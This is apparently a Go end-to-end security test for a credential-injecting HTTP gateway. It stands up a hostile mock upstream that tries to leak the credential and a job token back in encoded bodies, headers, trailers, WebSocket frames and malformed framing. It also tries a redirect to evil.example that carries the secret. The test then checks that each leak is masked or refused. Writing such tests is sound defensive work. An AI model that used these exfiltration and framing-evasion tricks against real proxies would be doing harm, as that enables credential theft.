package e2e

// The response side of the attack suite (issue 12, items 1 and 8): a
// hostile upstream that sends the injected credential and the job token
// back in every encoding and alignment, in bodies, headers, trailers,
// informational responses, redirects and WebSocket frames, under doubled
// and odd Content-Encoding and odd framing. Every case first proves that
// its allowed neighbour works, then that the attack is masked or refused;
// and every byte that came back (read from a raw TLS socket, so that no
// client library decodes or normalises anything) is searched for the
// credential and the token in every form, also as UTF-16 and inside any
// gzip stream. Last, the audit log says why each refusal happened, and
// neither it, the server's logs nor its data directory hold either value.

import (
	"bufio"
	"bytes"
	"compress/gzip"
	"crypto/tls"
	"crypto/x509"
	"encoding/base64"
	bo "encoding/binary"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"
	"unicode/utf16"
)

// raCred needs escaping in URLs and JSON, as real credentials may.
const raCred = `ghp_Att4ck/Cred+Value="q"0123456789abcdefXYZ`

// raForm is one way an upstream can send a value back, and the piece of it
// that must never come out (the middle third of the encoded value: it lies
// wholly inside the secret's part).
type raForm struct{ name, enc, mid string }

// raForms lists the encodings, written here independently of the masker.
func raForms(v string) []raForm {
	var out []raForm
	add := func(name, enc string) {
		out = append(out, raForm{name, enc, enc[len(enc)/3 : 2*len(enc)/3]})
	}
	add("raw", v)
	for k, pre := range []string{"Bearer ", "Basic x", "Token xy"} {
		add(fmt.Sprintf("base64 std of %q+value (alignment %d)", pre, k), base64.StdEncoding.EncodeToString([]byte(pre+v)))
		add(fmt.Sprintf("base64 url unpadded of %q+value (alignment %d)", pre, k), base64.RawURLEncoding.EncodeToString([]byte(pre+v)))
	}
	add("base64 std", base64.StdEncoding.EncodeToString([]byte(v)))
	add("hex", hex.EncodeToString([]byte(v)))
	add("HEX", strings.ToUpper(hex.EncodeToString([]byte(v))))
	q := []byte(url.QueryEscape(v))
	for i := 0; i+2 < len(q); i++ {
		if q[i] == '%' {
			copy(q[i+1:i+3], bytes.ToLower(q[i+1:i+3]))
		}
	}
	add("percent, lower-case hex", string(q))
	add("percent, path", url.PathEscape(v))
	j, _ := json.Marshal(v)
	add("json string", string(j[1:len(j)-1]))
	add(`json, every character \u`, raUEscape(v, "%04x"))
	add(`json, every character \U`, raUEscape(v, "%04X"))
	return out
}

func raUEscape(v, f string) string {
	var b strings.Builder
	for _, u := range utf16.Encode([]rune(v)) {
		b.WriteString(`\u` + fmt.Sprintf(f, u))
	}
	return b.String()
}

func raUTF16(s string, order bo.ByteOrder) []byte {
	u := utf16.Encode([]rune(s))
	b := make([]byte, 2*len(u))
	for i, x := range u {
		order.PutUint16(b[2*i:], x)
	}
	return b
}

func raGzip(b []byte) []byte {
	var buf bytes.Buffer
	zw := gzip.NewWriter(&buf)
	zw.Write(b)
	zw.Close()
	return buf.Bytes()
}

// raReadable is everything a client could read out of b: the bytes, the
// bytes as UTF-16 in either order at either offset, and what every gzip
// stream in them decodes to.
func raReadable(b []byte) string {
	var s strings.Builder
	s.Write(b)
	for _, order := range []bo.ByteOrder{bo.LittleEndian, bo.BigEndian} {
		for off := 0; off < 2 && off < len(b); off++ {
			u := make([]uint16, (len(b)-off)/2)
			for i := range u {
				u[i] = order.Uint16(b[off+2*i:])
			}
			s.WriteString("\n" + string(utf16.Decode(u)))
		}
	}
	for i := 0; ; {
		k := bytes.Index(b[i:], []byte{0x1f, 0x8b, 0x08})
		if k < 0 {
			break
		}
		i += k + 1
		if zr, err := gzip.NewReader(bytes.NewReader(b[i-1:])); err == nil {
			d, _ := io.ReadAll(io.LimitReader(zr, 1<<20))
			s.WriteString("\n" + string(d))
		}
	}
	return s.String()
}

// raLeaks returns what of the secrets can be read in b ("" if nothing).
func raLeaks(b []byte, secrets map[string]string) string {
	text := raReadable(b)
	for name, v := range secrets {
		for _, f := range raForms(v) {
			if strings.Contains(text, f.mid) {
				return f.name + " of the " + name
			}
		}
	}
	return ""
}

// raUpstream is the hostile upstream. It answers every request only when
// the gateway injected the credential; the job token it knows because the
// test tells it (a token leaked to the upstream by other means).
type raUpstream struct {
	mu  sync.Mutex
	tok string
}

func (u *raUpstream) secret(which string) string {
	u.mu.Lock()
	defer u.mu.Unlock()
	switch which {
	case "token":
		return u.tok
	case "cred":
		return raCred
	}
	return "a-harmless-value-0123456789"
}

func (u *raUpstream) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	if r.Header.Get("Authorization") != "Bearer "+raCred {
		http.Error(w, "no credential injected", 500)
		return
	}
	q := r.URL.Query()
	v := u.secret(q.Get("s"))
	var form string
	for _, f := range raForms(v) {
		if f.name == q.Get("f") {
			form = f.enc
		}
	}
	switch strings.TrimPrefix(r.URL.Path, "/api") {
	case "/ok":
		fmt.Fprint(w, "fine")
	case "/body":
		doc := `{"echo":"` + form + `"}`
		switch q.Get("as") {
		case "utf16le":
			w.Header().Set("Content-Type", "application/json; charset=utf-16le")
			w.Write(raUTF16(doc, bo.LittleEndian))
		case "utf16be":
			w.Header().Set("Content-Type", "application/json; charset=utf-16be")
			w.Write(append([]byte{0xfe, 0xff}, raUTF16(doc, bo.BigEndian)...))
		case "lines":
			fmt.Fprintf(w, "line 1\n%s\r\nline 3\n", form)
		default:
			w.Header().Set("Content-Length", fmt.Sprint(len(doc)))
			fmt.Fprint(w, doc)
		}
	case "/coded":
		// Content-Encoding lines as given ("|" separates lines), the body
		// gzipped once per gzip named.
		ce := q.Get("ce")
		w.Header()["Content-Encoding"] = strings.Split(ce, "|")
		body := []byte("coded " + v + " end")
		for range strings.Count(strings.ToLower(ce), "gzip") {
			body = raGzip(body)
		}
		if q.Get("status") == "206" {
			w.Header().Set("Content-Range", fmt.Sprintf("bytes 0-%d/%d", len(body)-1, len(body)+10))
			w.WriteHeader(206)
		}
		w.Write(body)
	case "/headers":
		w.Header().Set("Trailer", "X-Leak-Trailer")
		for i, f := range raForms(v) {
			w.Header().Set(fmt.Sprintf("X-Leak-%d", i), "v="+f.enc)
		}
		w.Header().Set("Set-Cookie", "session="+url.QueryEscape(v)+"; Path=/")
		w.Header().Set("WWW-Authenticate", `Bearer realm="`+v+`"`)
		fmt.Fprint(w, "headers")
		w.Header().Set("X-Leak-Trailer", base64.StdEncoding.EncodeToString([]byte("Bearer "+v)))
		w.Header().Set(http.TrailerPrefix+"X-Undeclared", hex.EncodeToString([]byte(v)))
	case "/redirect":
		w.Header().Set("Location", "https://evil.example/cb?c="+url.QueryEscape(v)+"&raw="+v)
		w.WriteHeader(307)
	case "/early":
		w.Header().Set("Link", "<https://evil.example/"+url.PathEscape(v)+">; rel=preload")
		w.WriteHeader(http.StatusEarlyHints)
		w.Header().Del("Link")
		fmt.Fprint(w, "after hints")
	case "/raw":
		u.raw(w, q.Get("kind"), v)
	case "/ws":
		conn, brw, err := http.NewResponseController(w).Hijack()
		if err != nil {
			return
		}
		defer conn.Close()
		brw.WriteString("HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\r\n")
		brw.Flush()
		for _, f := range raForms(v) {
			raFrame(conn, true, 1, []byte("got "+f.enc))
			m := []byte("split " + f.enc + " end")
			raFrame(conn, false, 1, m[:len(m)/2])
			raFrame(conn, true, 9, []byte(v))
			raFrame(conn, true, 0, m[len(m)/2:])
			raFrame(conn, true, 2, raUTF16("utf16 "+f.enc, bo.LittleEndian))
		}
		raFrame(conn, true, 8, nil)
	}
}

// raw writes a response by hand, for framing net/http would not produce.
func (u *raUpstream) raw(w http.ResponseWriter, kind, v string) {
	conn, brw, err := http.NewResponseController(w).Hijack()
	if err != nil {
		return
	}
	defer conn.Close()
	chunked := func(b []byte, trailer string) string {
		return fmt.Sprintf("%x\r\n%s\r\n0\r\n%s\r\n", len(b), b, trailer)
	}
	body := "raw " + v + " end"
	switch kind {
	case "ok":
		fmt.Fprintf(brw, "HTTP/1.1 200 OK\r\nContent-Length: 4\r\n\r\nfine")
	case "spelled gzip":
		z := raGzip([]byte(body))
		fmt.Fprintf(brw, "HTTP/1.1 200 OK\r\ncontent-encoding: identity\r\nCONTENT-ENCODING:\t x-GZIP \r\nContent-Length: %d\r\n\r\n%s", len(z), z)
	case "folded coding":
		z := raGzip([]byte(body))
		fmt.Fprintf(brw, "HTTP/1.1 200 OK\r\nContent-Encoding: identity\r\n gzip\r\nContent-Length: %d\r\n\r\n%s", len(z), z)
	case "gzip transfer-coding":
		fmt.Fprintf(brw, "HTTP/1.1 200 OK\r\nTransfer-Encoding: gzip, chunked\r\n\r\n%s", chunked(raGzip([]byte(body)), ""))
	case "length and chunked":
		fmt.Fprintf(brw, "HTTP/1.1 200 OK\r\nContent-Length: 3\r\nTransfer-Encoding: chunked\r\n\r\n%s", chunked([]byte(body), ""))
	case "two lengths":
		fmt.Fprintf(brw, "HTTP/1.1 200 OK\r\nContent-Length: 3\r\nContent-Length: %d\r\n\r\n%s", len(body), body)
	case "chunk extension and trailers":
		fmt.Fprintf(brw, "HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\nTrailer: X-T\r\n\r\n%x;ext=%s\r\n%s\r\n0\r\nX-T: %s\r\nX-Undeclared: %s\r\n\r\n",
			len(body), url.QueryEscape(v), body, v, base64.StdEncoding.EncodeToString([]byte(v)))
	case "coding in trailers":
		fmt.Fprintf(brw, "HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\nTrailer: Content-Encoding\r\n\r\n%x\r\n%s\r\n0\r\nContent-Encoding: gzip\r\n\r\n", len(body), body)
	case "reason phrase":
		fmt.Fprintf(brw, "HTTP/1.1 200 %s\r\nContent-Length: 4\r\n\r\nfine", v)
	case "http/1.0 until close":
		fmt.Fprintf(brw, "HTTP/1.0 200 OK\r\n\r\n%s", body)
	}
	brw.Flush()
}

// raFrame writes an unmasked (server) WebSocket frame.
func raFrame(w io.Writer, fin bool, op byte, p []byte) {
	b0 := op
	if fin {
		b0 |= 0x80
	}
	h := []byte{b0}
	switch {
	case len(p) < 126:
		h = append(h, byte(len(p)))
	case len(p) < 1<<16:
		h = append(h, 126, byte(len(p)>>8), byte(len(p)))
	default:
		h = append(h, 127)
		h = bo.BigEndian.AppendUint64(h, uint64(len(p)))
	}
	w.Write(append(h, p...))
}

// raRaw sends one request on a fresh TLS connection, exactly as written,
// and returns every byte that came back and the response parsed from them
// (nil if there is none).
func raRaw(t *testing.T, n *node, pool *x509.CertPool, method, target string, hdr string) (*http.Response, []byte, []byte) {
	t.Helper()
	host := strings.TrimPrefix(n.url, "https://")
	conn, err := tls.DialWithDialer(&net.Dialer{Timeout: 5 * time.Second}, "tcp", host, &tls.Config{RootCAs: pool, NextProtos: []string{"http/1.1"}})
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	conn.SetDeadline(time.Now().Add(20 * time.Second))
	fmt.Fprintf(conn, "%s %s HTTP/1.1\r\nHost: %s\r\n%sAccept-Encoding: gzip, deflate, br, zstd\r\nTE: trailers\r\nConnection: close\r\n\r\n", method, target, host, hdr)
	all, _ := io.ReadAll(conn)
	req, _ := http.NewRequest(method, "https://"+host+target, nil)
	resp, err := http.ReadResponse(bufio.NewReader(bytes.NewReader(all)), req)
	if err != nil {
		return nil, nil, all
	}
	body, _ := io.ReadAll(resp.Body)
	return resp, body, all
}

func TestAttackResponse(t *testing.T) {
	hostile := &raUpstream{}
	up := httptest.NewServer(hostile)
	t.Cleanup(up.Close)
	n := initDir(t)
	n.start(t)
	tok, _ := n.gatewayJob(t, "hostile", up.URL+"/api", raCred, "reader", `
      - methods: [GET, HEAD]
        paths: ["/**"]
`)
	hostile.mu.Lock()
	hostile.tok = tok
	hostile.mu.Unlock()
	secrets := map[string]string{"credential": raCred, "token": tok}
	pool := x509.NewCertPool()
	ca, err := os.ReadFile(filepath.Join(n.dir, "ca.pem"))
	if err != nil {
		t.Fatal(err)
	}
	pool.AppendCertsFromPEM(ca)
	auth := "Authorization: Bearer " + tok + "\r\n"

	type check func(t *testing.T, resp *http.Response, body []byte)
	status := func(want int) check {
		return func(t *testing.T, resp *http.Response, body []byte) {
			t.Helper()
			if resp == nil || resp.StatusCode != want {
				t.Fatalf("want %d, got %v %q", want, resp, body)
			}
		}
	}
	masked := func(t *testing.T, resp *http.Response, body []byte) {
		t.Helper()
		status(200)(t, resp, body)
		if !strings.Contains(raReadable(body), "***") {
			t.Fatalf("nothing masked: %q", body)
		}
		// A gzip body comes back gzip-encoded again, masked first (the
		// request accepts gzip); raReadable decodes it. Nothing else.
		if ce := resp.Header.Values("Content-Encoding"); len(ce) > 1 || (len(ce) == 1 && ce[0] != "gzip") {
			t.Fatalf("Content-Encoding %q on a body the gateway decoded", ce)
		}
	}
	// refusedOrMasked: framing net/http itself may refuse (502) or repair.
	refusedOrMasked := func(t *testing.T, resp *http.Response, body []byte) {
		t.Helper()
		if resp != nil && resp.StatusCode == 502 {
			return
		}
		masked(t, resp, body)
	}
	type attack struct {
		name      string
		neighbour string // path and query of the allowed neighbour: 200, and nothing to mask
		method    string
		target    string
		hdr       string
		want      check
	}
	var attacks []attack
	gw := "/gw/hostile"
	for which := range secrets {
		s := "s=" + map[string]string{"credential": "cred", "token": "token"}[which]
		for _, f := range raForms(secrets[which]) {
			for _, as := range []string{"", "utf16le", "utf16be", "lines"} {
				attacks = append(attacks, attack{fmt.Sprintf("%s, %s, in a body %s", which, f.name, as), "/ok", "GET",
					gw + "/body?" + s + "&" + url.Values{"f": {f.name}, "as": {as}}.Encode(), "", masked})
			}
		}
		coded := func(name, ce string, want check) {
			attacks = append(attacks, attack{which + ", Content-Encoding " + name, "/coded?s=none&ce=gzip", "GET",
				gw + "/coded?" + s + "&" + url.Values{"ce": {ce}}.Encode(), "", want})
		}
		coded("identity then gzip (two lines)", "identity|gzip", masked)
		coded("empty then gzip (two lines)", "|gzip", masked)
		coded("identity, gzip (one list)", "identity, gzip", masked)
		coded("x-gzip with blanks", " X-Gzip ", masked)
		coded("gzip, gzip", "gzip, gzip", status(502))
		coded("gzip twice (two lines)", "gzip|GZIP", status(502))
		coded("identity, gzip then gzip", "identity, gzip|gzip", status(502))
		coded("br", "br", status(502))
		coded("deflate", "deflate", status(502))
		coded("zstd", "zstd", status(502))
		coded("compress", "compress", status(502))
		coded("br then empty", "br|", status(502))
		coded("the credential as a coding", raCred, status(502))
		attacks = append(attacks,
			attack{which + ", gzip range (206)", "/coded?s=none&ce=gzip", "GET", gw + "/coded?" + s + "&ce=gzip&status=206", "", status(502)},
			attack{which + ", HEAD of a gzip body", "/coded?s=none&ce=gzip", "HEAD", gw + "/coded?" + s + "&ce=gzip", "",
				func(t *testing.T, resp *http.Response, body []byte) {
					status(200)(t, resp, body)
					// As the GET would answer this gzip-accepting
					// client: encoded again, no declared length.
					if resp.Header.Get("Content-Encoding") != "gzip" || resp.Header.Get("Content-Length") != "" {
						t.Fatalf("HEAD: Content-Encoding %q, Content-Length %q", resp.Header.Get("Content-Encoding"), resp.Header.Get("Content-Length"))
					}
				}},
			attack{which + ", every form in headers and trailers", "/ok", "GET", gw + "/headers?" + s, "",
				func(t *testing.T, resp *http.Response, body []byte) {
					status(200)(t, resp, body)
					if string(body) != "headers" || !strings.Contains(resp.Header.Get("X-Leak-0"), "***") ||
						!strings.Contains(resp.Trailer.Get("X-Leak-Trailer"), "***") {
						t.Fatalf("headers %v, trailers %v, body %q", resp.Header, resp.Trailer, body)
					}
				}},
			attack{which + ", redirect carrying it in Location", "/ok", "GET", gw + "/redirect?" + s, "",
				func(t *testing.T, resp *http.Response, body []byte) {
					status(307)(t, resp, body)
					if !strings.HasPrefix(resp.Header.Get("Location"), "https://evil.example/cb?c=***") {
						t.Fatalf("Location %q", resp.Header.Get("Location"))
					}
				}},
			attack{which + ", 103 Early Hints carrying it", "/ok", "GET", gw + "/early?" + s, "",
				func(t *testing.T, resp *http.Response, body []byte) {
					status(http.StatusEarlyHints)(t, resp, body)
					if !strings.Contains(resp.Header.Get("Link"), "***") {
						t.Fatalf("Link %q", resp.Header.Get("Link"))
					}
				}},
			attack{which + ", WebSocket frames", "/ok", "GET", gw + "/ws?" + s,
				"Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n",
				status(101)},
		)
		for _, kind := range []struct {
			name string
			want check
		}{
			{"spelled gzip", masked},
			{"folded coding", status(502)},
			{"gzip transfer-coding", status(502)},
			{"length and chunked", refusedOrMasked},
			{"two lengths", status(502)},
			{"chunk extension and trailers", masked},
			{"coding in trailers", func(t *testing.T, resp *http.Response, body []byte) {
				// A client honouring a coding announced after the body
				// would decode the masked bytes as something else.
				masked(t, resp, body)
				if resp.Trailer.Get("Content-Encoding") != "" {
					t.Fatalf("trailer Content-Encoding passed on")
				}
			}},
			{"reason phrase", status(200)},
			{"http/1.0 until close", masked},
		} {
			attacks = append(attacks, attack{which + ", raw response: " + kind.name, "/raw?kind=ok", "GET",
				gw + "/raw?" + s + "&" + url.Values{"kind": {kind.name}}.Encode(), "", kind.want})
		}
	}

	start := time.Now()
	for _, a := range attacks {
		t.Run(a.name, func(t *testing.T) {
			resp, body, all := raRaw(t, n, pool, "GET", gw+a.neighbour, auth)
			if resp == nil || resp.StatusCode != 200 || strings.Contains(string(body), "***") {
				t.Fatalf("neighbour %s: %v %q", a.neighbour, resp, all)
			}
			if leak := raLeaks(all, secrets); leak != "" {
				t.Fatalf("neighbour %s: %s came back", a.neighbour, leak)
			}
			resp, body, all = raRaw(t, n, pool, a.method, a.target, auth+a.hdr)
			a.want(t, resp, body)
			if leak := raLeaks(all, secrets); leak != "" {
				t.Fatalf("%s came back: %q", leak, all)
			}
		})
	}
	t.Logf("%d attack cases (each with its neighbour) in %v", len(attacks), time.Since(start).Round(time.Millisecond))

	// The audit log says why each refusal happened, naming codings only
	// from the registry, and holds neither secret in any form.
	c := n.client(t)
	var entries string
	for deadline := time.Now().Add(10 * time.Second); ; time.Sleep(50 * time.Millisecond) {
		var all strings.Builder
		for start := 0; ; {
			code, page := n.req(t, c, "GET", fmt.Sprintf("/v1/audit/entries?start=%d&limit=1000", start), "")
			if code != 200 {
				t.Fatalf("audit entries: %d %s", code, page)
			}
			if page == "" {
				break
			}
			all.WriteString(page)
			start += strings.Count(page, "\n")
		}
		entries = all.String()
		// Every request has its outcome recorded: two requests per attack.
		if strings.Count(entries, `"type":"gateway.request"`) >= 2*len(attacks) || time.Now().After(deadline) {
			break
		}
	}
	for _, reason := range []string{
		"encoding: stacked content codings gzip, gzip",
		"encoding: content coding br is not decoded by the gateway",
		"encoding: content coding unknown is not decoded by the gateway",
		"encoding: a range of a gzip body",
	} {
		if !strings.Contains(entries, `"reason":"`+reason+`"`) {
			t.Errorf("no audit entry with reason %q", reason)
		}
	}
	if leak := raLeaks([]byte(entries), secrets); leak != "" {
		t.Errorf("the audit log holds %s", leak)
	}
	// Stopped, the server has written all its logs and files.
	n.cmd.Process.Signal(os.Interrupt)
	n.cmd.Wait()
	if leak := raLeaks(n.logs.Bytes(), secrets); leak != "" {
		t.Errorf("the server's log holds %s", leak)
	}
	filepath.Walk(n.dir, func(p string, info os.FileInfo, err error) error {
		if err != nil || info.IsDir() {
			return nil
		}
		b, _ := os.ReadFile(p)
		for name, v := range secrets {
			if bytes.Contains(b, []byte(v)) {
				t.Errorf("%s holds the %s", p, name)
			}
		}
		return nil
	})
}
